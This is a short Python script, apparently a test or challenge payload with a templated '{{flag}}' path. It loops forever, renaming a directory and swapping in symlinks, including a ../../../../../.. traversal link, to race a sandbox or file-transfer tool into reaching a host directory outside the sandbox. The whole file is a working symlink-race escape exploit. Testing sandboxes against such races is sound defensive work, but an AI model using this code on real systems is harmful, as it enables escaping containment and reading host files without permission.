"""Swaps a directory for a link to the host's, and back."""

import os
import shutil

os.makedirs("tree/real", exist_ok=True)
for name in ("flag", "a", "b"):
    with open("tree/real/" + name, "w") as file:
        file.write("of the sandbox")
outside = os.path.dirname("{{flag}}")
STEPS = (
    lambda: os.rename("tree/real", "tree/here"),
    lambda: os.rename("tree/here", "tree/real"),
    lambda: os.symlink(outside, "tree/here"),
    lambda: os.unlink("tree/here"),
    lambda: os.symlink("../../../../../.." + outside, "tree/real/out"),
    lambda: os.unlink("tree/real/out"),
)
while True:
    for step in STEPS:
        try:
            step()
        except OSError:
            # A push has put a directory there.
            if os.path.isdir("tree/real") and not os.path.islink("tree/here"):
                shutil.rmtree("tree/here", ignore_errors=True)
